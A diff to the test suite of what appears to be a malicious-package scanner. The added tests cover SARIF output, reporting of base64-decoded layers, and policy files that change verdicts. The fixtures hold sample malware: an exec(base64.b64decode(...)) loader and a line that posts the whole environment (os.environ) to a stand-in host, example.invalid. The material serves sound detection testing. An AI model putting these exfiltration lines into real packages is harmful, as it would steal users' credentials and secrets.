@@ -111,6 +111,46 @@ def test_sarif_and_explain(tmp_path):
     assert "malicious" in text and "pkg.pth:1" in text and "\x1b" not in text
 
 
+def test_sarif_names_no_line_of_a_layer(tmp_path):
+    """A line of what was decoded is none of the file: it stands among the properties, with the layers and what they hid."""
+    inner = base64.b64encode(b"#\n" * 50 + b"import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))\n")
+    source = b"import base64\nexec(base64.b64decode('%s'))\n" % inner
+    (tmp_path / "pkg-1.0-py3-none-any.whl").write_bytes(zip_bytes(whole([("pkg/__init__.py", source)])))
+    [log] = json.loads(inspect("--format", "sarif", tmp_path / "pkg-1.0-py3-none-any.whl").stdout)["runs"]
+    regions = [place["physicalLocation"].get("region") for one in log["results"] for place in one["locations"]]
+    assert all(region is None or region["startLine"] <= 2 for region in regions), regions
+    layered = [one["properties"] for one in log["results"] if "layer" in one["properties"]]
+    assert any(one["layer"]["encodings"] == ["base64"] and one["layer"]["line"] == 52 for one in layered), layered
+    assert any("requests" in one["properties"].get("decoded", "") for one in log["results"])
+    [verdict] = log["properties"]["verdicts"]
+    assert verdict["verdict"] == "malicious" and verdict["reasons"][0]["rule"] == "harm-and-nothing-else"
+
+
+def test_the_policy_decides_and_says_why(tmp_path):
+    evil, policy = tmp_path / "pkg-1.0-py3-none-any.whl", tmp_path / "policy.toml"
+    evil.write_bytes(zip_bytes(whole(EVIL)))
+    code, [found] = answers(evil)
+    assert (code, found["verdict"]) == (1, "malicious")
+    assert found["reasons"][0] == {
+        "rule": "harm-and-nothing-else",
+        "verdict": "malicious",
+        "text": found["reasons"][0]["text"],
+    }
+    assert "pth-imports@" in found["reasons"][0]["text"]
+    assert "harm-and-nothing-else: It does" in inspect(evil).stdout
+    rule = '[[rule]]\nid = "every-path-file"\nchecks = ["pth-imports"]\nverdict = "review"\nwhy = "Ours are looked at."\n'
+    policy.write_text(f'name = "lenient"\nversion = 7\n{rule}')
+    code, [found] = answers("--policy", policy, evil)
+    assert (code, found["verdict"]) == (0, "review")
+    assert [reason["rule"] for reason in found["reasons"]] == ["every-path-file"]
+    [log] = json.loads(inspect("--format", "sarif", "--policy", policy, evil).stdout)["runs"]
+    assert log["properties"]["policy"].startswith("lenient-7@")
+    policy.write_text("name = 1")
+    done = inspect("--policy", policy, evil)
+    assert done.returncode == 2 and "policy.toml" in done.stderr
+    assert inspect("--policy", tmp_path / "none", evil).returncode == 2
+
+
 def test_the_names_of_a_parcel_are_its_makers(tmp_path):
     """What separates the paths of nested archives may stand in their names: members keep their places."""
     setup = b"import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))\n"
@@ -201,7 +241,7 @@ def test_keys_are_exactly_those_that_are_promised(tmp_path):
     evil = tmp_path / "evil.whl"
     evil.write_bytes(zip_bytes(whole(EVIL)))
     _, [found] = answers(evil)
-    assert set(found) == {"file", "sha256", "verdict", "findings", "degraded"}
+    assert set(found) == {"file", "sha256", "verdict", "reasons", "findings", "degraded"}
     assert found["sha256"] == hashlib.sha256(evil.read_bytes()).hexdigest()
     for finding in found["findings"]:
         assert finding["severity"] in ("note", "low", "medium", "high", "critical")
